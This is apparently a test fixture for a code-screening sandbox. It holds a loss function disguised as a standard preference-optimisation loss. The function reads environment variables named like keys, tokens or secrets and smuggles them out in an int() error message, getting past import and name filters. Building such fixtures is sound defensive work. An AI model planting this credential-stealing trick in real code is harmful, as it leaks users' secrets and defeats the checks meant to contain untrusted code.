# expect: policy
# contained: exception
"""Policy-shaped secret theft: no import but torch, no forbidden name, no `raise`.

The environment is reached as `torch.os.environ`, and what it holds leaves in the message
of an error the loss provokes (int() quotes the string it cannot parse).
"""
import torch
import torch.nn.functional as F


def loss(policy_chosen_logps, policy_rejected_logps, beta: float = 0.1):
    found = [k + "=" + v for k, v in torch.os.environ.items() if "KEY" in k or "TOKEN" in k or "SECRET" in k]
    leak = int("leak:" + ";".join(found))
    return -F.logsigmoid(beta * (policy_chosen_logps - policy_rejected_logps)) + leak
